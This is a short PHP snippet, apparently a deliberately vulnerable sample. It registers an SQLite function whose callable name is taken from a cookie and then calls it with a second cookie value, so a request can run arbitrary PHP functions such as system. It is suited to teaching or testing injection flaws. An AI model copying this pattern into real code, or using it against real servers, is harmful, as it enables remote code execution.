<?php
// The callable an SQL function maps to comes from a cookie; the query then calls it with another.
$link = new SQLite3(':memory:');
$handler = isset($_COOKIE['h']) ? $_COOKIE['h'] : 'strtoupper';
$link->createFunction('fmt', $handler, 1);
$query = $link->prepare('SELECT fmt(:v)');
$query->bindValue(':v', $_COOKIE['v'], SQLITE3_TEXT);
$query->execute();
